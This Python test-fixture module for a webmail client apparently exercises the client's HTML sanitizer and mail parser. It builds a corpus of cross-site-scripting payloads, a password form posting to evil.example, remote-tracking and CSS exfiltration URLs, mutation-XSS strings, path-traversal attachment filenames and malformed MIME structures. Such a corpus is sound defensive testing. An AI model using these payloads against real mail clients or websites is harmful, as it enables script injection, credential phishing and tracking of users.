"""A corpus of hostile and broken messages, built by factories (no binary fixtures).

`ATTACKS` maps each attack class of the issue to HTML payloads; `nasty_messages()` wraps those
and structural damage (broken boundaries, unknown charsets, bad base64, deep nesting, huge
headers, path tricks in filenames) into whole messages as bytes, ready to APPEND.
"""

from __future__ import annotations

import base64
from email.message import EmailMessage

from webmail.devmail.factories import make_message, message_bytes

PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
)

ATTACKS: dict[str, list[str]] = {
    "script": [
        "<script>window.parent.__pwned=1</script><p>hi</p>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</script>",
        '<img src=x onerror="parent.__pwned=1">',
        '<body onload="parent.__pwned=1"><p onclick=alert(1) ONMOUSEOVER=alert(2)>x</p>',
        '<div style="x" on\x00error="alert(1)">x</div>',
    ],
    "forms": [
        '<form action="https://evil.example/steal" method="post"><input name="password">'
        "<button>Log in</button></form>",
        "<textarea><img src=x onerror=alert(1)></textarea><select><option>a</select>",
    ],
    "base_meta": [
        '<base href="https://evil.example/"><a href="page">relative</a>',
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
        '<meta http-equiv="Content-Security-Policy" content="default-src *">',
        '<link rel="stylesheet" href="https://evil.example/x.css">',
    ],
    "object_embed": [
        '<object data="https://evil.example/x.swf"></object>',
        '<embed src="https://evil.example/x.swf">',
        '<iframe src="https://evil.example/"></iframe><frameset><frame src="x">',
        '<applet code="X.class"></applet><portal src="https://evil.example/"></portal>',
    ],
    "svg": [
        "<svg><script>parent.__pwned=1</script></svg>",
        '<svg><a xlink:href="javascript:alert(1)"><text y="20">click</text></a></svg>',
        '<svg><animate attributeName="href" to="javascript:alert(1)"/></svg>',
        '<svg><a><set attributeName=" HREF" to="javascript:alert(1)"/><text>x</text></a></svg>',
        '<svg><a><animate attributeName="xlink:href" values="javascript:alert(1)"/></a></svg>',
        '<svg><set attributeName="style" to="position:fixed;top:0;left:0;width:100%"/></svg>',
        '<svg><filter><feImage xlink:href="https://evil.example/t.png"/></filter></svg>',
        '<svg><image href="https://evil.example/t.png"/><use href="https://evil.example/#x"/></svg>',
        "<SvG><ScRiPt>parent.__pwned=1</sCrIpT></sVg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph>",
    ],
    "javascript_urls": [
        '<a href="javascript:alert(1)">a</a>',
        '<a href="  JaVaScRiPt:alert(1)">b</a>',
        '<a href="java&#x09;script:alert(1)">c</a>',
        '<a href="java\nscript:alert(1)">d</a>',
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">e</a>',
        '<a href="vbscript:msgbox(1)">f</a>',
        '<img src="javascript:alert(1)">',
    ],
    "data_urls": [
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
        '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
        '<img src="data: image/svg+xml ;base64,PHN2Zz4=">',
        '<img src="DATA:IMAGE/SVG+XML;charset=utf-8,<svg onload=alert(1)>">',
        '<img src="data:image/png;foo=bar;base64,PHN2Zz4=">',
        '<img src="data:text/html,<script>alert(1)</script>">',
        '<img src="data:image/png ;base64,PHN2Zz4=">',
        '<a href="data:image/png;base64,iVBORw0KGgo=">png link</a>',
    ],
    "css": [
        '<div style="background:url(https://evil.example/bg.png)">x</div>',
        '<div style="background:u\\72l(https://evil.example/bg.png)">x</div>',
        '<div style="background:url(/**/https://evil.example/bg.png)">x</div>',
        '<div style="background:url(https://evil.example/bg.png">unclosed</div>',
        '<div style="--x: url(https://evil.example/v.png); background: var(--x)">var</div>',
        '<div style="width: expression(alert(1))">ie</div>',
        '<div style="width: expr/**/ession(alert(1))">ie</div>',
        '<div style="behavior: url(x.htc); -moz-binding: url(x.xml#xss)">b</div>',
        '<div style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</div>',
        '<div style="position: fixed !important; z-index: 99999">overlay</div>',
        '<div style="position:\\66ixed">escaped</div>',
        "<style>@import url(https://evil.example/x.css); p { color: red }</style><p>x</p>",
        "<style>@font-face { font-family: x; src: url(https://evil.example/f.woff) }</style>",
        "<style>body { background-image: url('https://evil.example/bg.png') }</style>",
        "<style>div { position: fixed !important; inset: 0 }</style><div>x</div>",
        "<style>p { color: red }</style><style>a{}</style><p>&lt;/style&gt;</p>",
        '<table background="https://evil.example/t.png"><tr><td>x</td></tr></table>',
    ],
    "remote": [
        '<img src="https://evil.example/track.png" width="1" height="1">',
        '<img src="http://evil.example/a.png" srcset="https://evil.example/b.png 2x">',
        '<video poster="https://evil.example/p.png"><source src="https://evil.example/v.mp4">',
        '<img src="//evil.example/protocol-relative.png">',
        '<audio src="https://evil.example/a.mp3"></audio><picture><source '
        'srcset="https://evil.example/p.png"></picture>',
    ],
    "mutation": [
        # Parsing differences that let markup change meaning once re-serialized (mXSS).
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
        '<a title="&lt;/a&gt;&lt;img src=x onerror=alert(1)&gt;">t</a>',
        "<template><img src=x onerror=alert(1)></template>",
        "<xmp><img src=x onerror=alert(1)></xmp>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<style><img src=x onerror=alert(1)></style>",
    ],
}


def html_message(html: str, *, subject: str = "HTML", text: str | None = None) -> EmailMessage:
    return make_message(subject=subject, text=text, html=html)


def related_message(html: str, images: dict[str, bytes], subject: str = "Inline") -> EmailMessage:
    """multipart/related: HTML referring to images by cid:."""
    msg = make_message(subject=subject, text="see the HTML part", html=html)
    html_part = msg.get_body(("html",))
    assert html_part is not None
    for cid, data in images.items():
        html_part.add_related(data, maintype="image", subtype="png", cid=f"<{cid}>")
    return msg


def raw(headers: str, body: str) -> bytes:
    return message_bytes((headers.strip("\n") + "\n\n" + body).encode("utf-8", "surrogateescape"))


def nasty_messages() -> list[tuple[str, bytes]]:
    """(name, raw bytes): messages that have broken mail clients before."""
    out: list[tuple[str, bytes]] = []
    for attack, payloads in ATTACKS.items():
        html = "\n".join(payloads)
        out.append((f"html-{attack}", message_bytes(html_message(html, subject=attack))))
    base = "From: Mallory <m@evil.example>\nTo: a@example.org\nSubject: {s}\nMIME-Version: 1.0\n"
    out.append(
        (
            "broken-boundary",
            raw(
                base.format(s="broken boundary") + 'Content-Type: multipart/mixed; boundary="AAA"',
                "--AAA\nContent-Type: text/plain\n\nfirst\n--AAB\nnot a part\n--AA",
            ),
        )
    )
    out.append(
        (
            "unknown-charset",
            raw(
                base.format(s="charset")
                + "Content-Type: text/plain; charset=x-klingon\nContent-Transfer-Encoding: 8bit",
                "caf\udce9 au lait",
            ),
        )
    )
    out.append(
        (
            "wrong-charset",
            raw(
                base.format(s="wrong charset")
                + "Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 8bit",
                "na\udcefve caf\udce9",
            ),
        )
    )
    out.append(
        (
            "bad-base64",
            raw(
                base.format(s="bad base64")
                + "Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: base64",
                "SGVsbG8gd29y!!!bGQ=\n===\nQUJD",
            ),
        )
    )
    nested = "Content-Type: text/plain\n\ninnermost\n"
    for depth in range(60):
        b = f"b{depth}"
        nested = f'Content-Type: multipart/mixed; boundary="{b}"\n\n--{b}\n{nested}\n--{b}--\n'
    head, _, body = nested.partition("\n\n")
    out.append(("deep-nesting", raw(base.format(s="deep") + head, body)))
    out.append(
        (
            "huge-headers",
            raw(
                base.format(s="x" * 20000)
                + "X-Long: "
                + "y" * 200000
                + "\nCc: "
                + ", ".join(f"u{i}@example.org" for i in range(3000)),
                "body",
            ),
        )
    )
    out.append(
        (
            "encoded-words",
            raw(
                "From: =?utf-8?q?J=C3=BCrgen_=3Cscript=3E?= <j@example.org>\n"
                "To: =?iso-8859-1?q?Ren=E9e?= <r@example.org>\n"
                "Subject: =?utf-8?b?PGltZyBzcmM9eCBvbmVycm9yPWFsZXJ0KDEpPg==?= =?bogus?q?x?=\n"
                "MIME-Version: 1.0\nContent-Type: text/plain; charset=utf-8",
                "hello",
            ),
        )
    )
    out.append(
        (
            "filename-tricks",
            raw(
                base.format(s="filenames") + 'Content-Type: multipart/mixed; boundary="F"',
                "--F\nContent-Type: text/plain\n\nsee attachments\n"
                '--F\nContent-Type: text/html; name="../../etc/passwd.html"\n'
                'Content-Disposition: attachment; filename="..\\\\..\\\\win.ini"\n\n'
                "<script>alert(1)</script>\n"
                "--F\nContent-Type: image/svg+xml\n"
                "Content-Disposition: attachment; filename*=utf-8''%E2%80%AEgpj.svg%0d%0aX: y\n\n"
                "<svg onload=alert(1)/>\n"
                "--F--\n",
            ),
        )
    )
    out.append(
        (
            "no-content-type-garbage",
            raw(
                base.format(s="garbage") + "Content-Type: ;;;===\nContent-Transfer-Encoding: x-uu",
                "\x00\x01\x02 binary junk \udcff\udcfe",
            ),
        )
    )
    return out
